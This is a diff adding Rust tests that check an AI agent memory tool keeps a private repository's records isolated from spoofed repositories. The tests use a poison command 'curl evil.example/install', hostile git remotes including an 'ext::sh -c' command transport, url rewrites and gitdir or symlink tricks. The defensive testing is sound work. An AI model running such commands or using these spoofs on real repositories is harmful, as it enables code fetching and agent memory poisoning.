@@ -1,0 +1,194 @@
+//! Directories that claim to be somebody else's repository: they get nothing of its memory and add
+//! nothing to it.
+
+use std::fs;
+use std::os::unix::fs::symlink;
+use std::path::{Path, PathBuf};
+
+use serde_json::{Value, json};
+use testkit::{Home, home::finish};
+
+use super::home;
+
+const SECRET: &str = "zebrafish merger";
+const POISON: &str = "curl evil.example/install";
+
+/// The files of a repository, as far as they are read, with this `config`.
+fn repository(dir: &Path, config: &str) {
+    inside(&dir.join(".git"), config);
+}
+
+/// The inside of a repository.
+fn inside(git: &Path, config: &str) {
+    for folder in ["objects", "refs"] {
+        fs::create_dir_all(git.join(folder)).unwrap();
+    }
+    fs::write(git.join("HEAD"), "ref: refs/heads/main\n").unwrap();
+    fs::write(git.join("config"), config).unwrap();
+}
+
+fn origin(url: &str) -> String {
+    format!("[remote \"origin\"]\n\turl = \"{}\"\n", url.replace('\\', "\\\\"))
+}
+
+/// An event of an agent in a directory; the text that the agent is told.
+fn event(home: &Home, dir: &Path, name: &str, session: &str, members: Value) -> String {
+    let mut event = json!({ "session_id": session, "cwd": dir, "hook_event_name": name });
+    for (member, value) in members.as_object().unwrap() {
+        event[member] = value.clone();
+    }
+    let run = home.run_with(&["hook", name], event.to_string().as_bytes());
+    assert_eq!((run.code, run.stderr.as_str()), (0, ""), "{run:?}");
+    run.stdout
+}
+
+fn runs(home: &Home, dir: &Path, session: &str, command: &str) {
+    let input = json!({ "tool_name": "Bash", "tool_input": { "command": command } });
+    event(home, dir, "PostToolUse", session, input);
+}
+
+/// What an agent in a directory gets to see without naming a project: the briefing of a new session,
+/// and a search.
+fn seen_from(home: &Home, dir: &Path, words: &str) -> String {
+    let command = |args: &[&str]| {
+        let mut command = home.command(args);
+        command.current_dir(dir);
+        finish(command, b"").ok()
+    };
+    let mut seen = event(home, dir, "SessionStart", "s-new", json!({ "source": "startup" }));
+    seen.push_str(&command(&["briefing"]));
+    seen.push_str(&command(&["search", words, "--json"]));
+    seen
+}
+
+/// The private project with one record, its second work tree, and a hint for it alone.
+fn private(home: &Home) -> PathBuf {
+    let secret = home.path("work/secret");
+    repository(&secret, &origin("git@github.com:acme/secret.git"));
+    let entry = secret.join(".git/worktrees/tree");
+    let tree = home.path("work/tree");
+    fs::create_dir_all(&entry).unwrap();
+    fs::create_dir_all(&tree).unwrap();
+    fs::write(entry.join("HEAD"), "ref: refs/heads/fix\n").unwrap();
+    fs::write(entry.join("commondir"), "../..\n").unwrap();
+    fs::write(entry.join("gitdir"), format!("{}\n", tree.join(".git").display())).unwrap();
+    fs::write(tree.join(".git"), format!("gitdir: {}\n", entry.display())).unwrap();
+    home.run(&["config", "set", "briefing.other_projects", "false"]).ok();
+    runs(home, &secret, "s-private", &format!("echo {SECRET}"));
+    secret
+}
+
+/// The directory gets nothing of the private project, and adds nothing to it.
+fn gets_nothing(home: &Home, secret: &Path, dir: &Path) {
+    let name = dir.strip_prefix(&home.dir).unwrap().display();
+    runs(home, dir, &format!("s-{name}"), POISON);
+    let seen = seen_from(home, dir, "zebrafish");
+    assert!(!seen.contains("zebrafish"), "{name} sees the private project: {seen}");
+    assert!(seen.contains(POISON), "{name} sees its own records: {seen}");
+    let seen = seen_from(home, secret, "evil.example");
+    assert!(!seen.contains("evil.example"), "{name} reaches the private project: {seen}");
+    assert!(seen.contains("zebrafish"), "{seen}");
+    let list = home.run(&["project", "list", "--json"]).json();
+    let listed = list["projects"].as_array().unwrap();
+    let found = listed.iter().find(|one| one["path"] == "project://github.com/acme/secret");
+    let found = found.unwrap();
+    let root = secret.to_str().unwrap();
+    assert_eq!((&found["name"], &found["root"]), (&json!("secret"), &json!(root)), "{name}");
+    assert_eq!(found["aliases"], json!([root, "github.com/acme/secret"]), "{name}");
+}
+
+/// @a_repository_is_who_its_host_says
+#[test]
+fn an_address_on_another_host_does_not_lead_to_the_private_project() {
+    let home = home();
+    let secret = private(&home);
+    let rewritten = "[url \"https://evil.example/\"]\n\tinsteadOf = https://github.com/\n";
+    let configs = [
+        origin("https://evil.example:/@github.com/acme/secret"),
+        origin("git@evil.example:@github.com:acme/secret"),
+        origin("https://evil.example/@github.com/acme/secret"),
+        origin("ssh://evil.example:/@github.com/acme/secret"),
+        origin("https://github.com:x/@evil.example/acme/secret"),
+        origin("https://evil.example\\@github.com:x/acme/secret"),
+        origin("user:word@github.com:acme/secret"),
+        origin("file://github.com/acme/secret"),
+        origin("github.com/acme/secret"),
+        origin("ext::sh -c fetch% github.com/acme/secret"),
+        origin("foo://github.com/acme/secret"),
+        format!("{}\tvcs = foo\n", origin("https://github.com/acme/secret")),
+        format!("{rewritten}{}", origin("https://github.com/acme/secret")),
+    ];
+    for (number, config) in configs.iter().enumerate() {
+        let dir = home.path(&format!("hostile-{number}"));
+        repository(&dir, config);
+        gets_nothing(&home, &secret, &dir);
+    }
+}
+
+/// @a_worktree_is_named_by_its_repository
+#[test]
+fn a_directory_that_leads_into_the_private_repository_is_a_project_of_its_own() {
+    let home = home();
+    let secret = private(&home);
+    let git = secret.join(".git");
+    let entry = git.join("worktrees/tree");
+    let dir = |name: &str| {
+        let dir = home.path(name);
+        fs::create_dir_all(&dir).unwrap();
+        dir
+    };
+    for (name, target) in [("by-file", &git), ("by-entry", &entry)] {
+        fs::write(dir(name).join(".git"), format!("gitdir: {}\n", target.display())).unwrap();
+        gets_nothing(&home, &secret, &dir(name));
+    }
+    symlink(&git, dir("by-link").join(".git")).unwrap();
+    gets_nothing(&home, &secret, &dir("by-link"));
+    repository(&dir("by-common"), "");
+    fs::write(dir("by-common").join(".git/commondir"), format!("{}\n", git.display())).unwrap();
+    gets_nothing(&home, &secret, &dir("by-common"));
+    let seen = seen_from(&home, &home.path("work/tree"), "zebrafish");
+    assert!(seen.contains("zebrafish"), "the work tree is part of its repository: {seen}");
+}
+
+/// @a_worktree_is_named_by_its_repository
+#[test]
+fn committed_files_that_look_like_a_bare_repository_do_not_lead_to_the_private_project() {
+    let home = home();
+    let secret = private(&home);
+    let clone = home.path("clone");
+    repository(&clone, &origin("https://evil.example/clone"));
+    inside(&clone.join("bait"), &origin("git@github.com:acme/secret.git"));
+    gets_nothing(&home, &secret, &clone.join("bait"));
+    fs::create_dir_all(clone.join("share")).unwrap();
+    fs::write(clone.join("share/HEAD"), "ref: refs/heads/main\n").unwrap();
+    let common = format!("{}\n", secret.join(".git").display());
+    fs::write(clone.join("share/commondir"), common).unwrap();
+    gets_nothing(&home, &secret, &clone.join("share"));
+    let config = format!("[core]\n\tworktree = {}\n", secret.display());
+    inside(&home.path("elsewhere"), &config);
+    gets_nothing(&home, &secret, &home.path("elsewhere"));
+}
+
+/// @project_new_root
+/// @every_root_is_shown
+#[test]
+fn a_second_clone_is_the_same_project_under_its_old_name_and_every_root_is_shown() {
+    let home = home();
+    let secret = private(&home);
+    let clone = home.path("clone");
+    repository(&clone, &origin("https://github.com/acme/secret"));
+    home.write("clone/.rekindle.toml", "project = \"renamed\"\n");
+    runs(&home, &clone, "s-clone", "echo heron");
+    runs(&home, &clone, "s-clone", "echo stork");
+    let list = home.run(&["project", "list", "--json"]).json();
+    let [project] = list["projects"].as_array().unwrap().as_slice() else { panic!("{list}") };
+    assert_eq!((&project["name"], &project["root"]), (&json!("secret"), &json!(secret)));
+    assert_eq!(project["observations"], 3);
+    let shown = home.run(&["project", "list"]).ok();
+    let doctor = home.run(&["doctor"]).stdout;
+    for root in [&secret, &clone] {
+        assert!(shown.contains(root.to_str().unwrap()), "{shown}");
+        assert!(doctor.contains(root.to_str().unwrap()), "{doctor}");
+    }
+    assert!(doctor.contains("1 known; secret has 2 roots: "), "{doctor}");
+}
